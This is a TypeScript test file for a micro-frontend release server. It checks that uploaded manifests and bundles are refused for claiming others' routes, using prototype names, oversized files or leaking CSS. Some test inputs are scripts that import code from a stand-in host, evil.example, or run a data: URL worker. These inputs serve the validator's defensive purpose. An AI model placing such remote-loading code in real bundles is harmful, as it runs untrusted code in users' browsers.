import { randomBytes } from 'node:crypto';
import {
  invalid,
  next,
  refused,
  refusedInside,
  send,
  sendRelease,
  tryAll,
  waiting,
} from '../../testing/attacks.ts';
import { routesAt } from '../../testing/test-releases.ts';

tryAll([
  // claims
  ...['/login', '/LogIn/', '/'].map((path) =>
    refused(
      `the page ${path}`,
      { routes: routesAt(path) },
      /manifest\.routes\.0\.path is .*, which belongs to the shell/,
    ),
  ),
  ...['/api/v1/players', '/remotes.json'].map((path) =>
    refused(`the address ${path}`, { routes: routesAt(path) }, /which the server needs/),
  ),
  ...['/mf-kit/../login', '/mf-other//:id'].map((path) =>
    invalid(
      `a path such as ${path}`,
      () => sendRelease(next({ routes: routesAt(path) })),
      /path must be a path such as/,
    ),
  ),
  refused(
    'a screen with a name that every object has',
    { routes: [{ path: '/mf-kit', access: 'everyone', title: 'Kit', screen: 'constructor' }] },
    /manifest\.routes\.0\.screen is constructor, which manifest\.files doesn’t have/,
  ),
  waiting('a link to a release that waits', () => send('PUT', '/remotes/mf-kit/releases/waiting/preview')),
  refusedInside(
    'a path of another remote',
    { routes: routesAt('/MF-Other') },
    /manifest\.routes\.0\.path is \/MF-Other, which belongs to mf-other/,
  ),
  refused(
    'the same path twice',
    { routes: routesAt('/mf-kit', '/MF-kit/') },
    /manifest\.routes\.1\.path names \/MF-kit\/ twice/,
  ),
  refused(
    'a navigation entry to someone else’s page',
    { navigation: [{ label: 'Matches', to: '/matches', order: 1, access: 'everyone' }] },
    /manifest\.navigation\.0\.to leads to \/matches, which is none of its routes/,
  ),
  waiting('a release that waits, made live with the key', () =>
    send('PUT', '/remotes/mf-kit/live', { body: { release: 'waiting', stage: 'everyone' } }),
  ),
  waiting('a rollback to a release that waits', () =>
    send('POST', '/remotes/mf-kit/rollback', { body: { release: 'waiting' } }),
  ),
  invalid(
    'a share of everyone',
    () => sendRelease(next(), { stage: 'share', share: 100 }),
    /^share must be from 1 to 99/,
  ),
  invalid(
    'a share without the stage',
    () => sendRelease(next(), { share: 10 }),
    /^share must be there with the stage/,
  ),
  // what it needs, and what it contains
  // More in the tests of `check-shell.ts` and `check-styles.ts`.
  ...[
    ['import("/remotes/mf-other/r1/kit-screen.r1.js")', '/remotes/mf-other'],
    ['const load=()=>import("https://evil.example/a.js")', 'https://evil.example/a.js'],
    ['import{a}from"//evil.example/a.js"', '//evil.example'],
    ['new Worker("data:text/javascript,alert(1)")', 'data:text/javascript'],
  ].map(([script = '', from = '']) =>
    refusedInside(
      `a script with ${script}`,
      { contents: { 'a.js': script } },
      new RegExp(`files load code from elsewhere: a\\.js loads ${from}`),
    ),
  ),
  refused('a newer contract', { contract: '99.0.0' }, /built for contract 99\.0\.0/),
  refused(
    'a shared module with a name that every object has',
    { needs: { constructor: '^1.0.0' } },
    /constructor \^1\.0\.0, which it doesn’t have/,
  ),
  refusedInside(
    'styles that hide the header',
    { contents: { 'a.css': 'body:has(.mf-kit-a) header{display:none}' } },
    /its styles reach outside it: body:has\(\.mf-kit-a\) header/,
  ),
  refusedInside(
    'too many bytes',
    { contents: { 'a.js': `/*${randomBytes(120_000).toString('base64')}*/` } },
    /the limit is 60000/,
  ),
]);
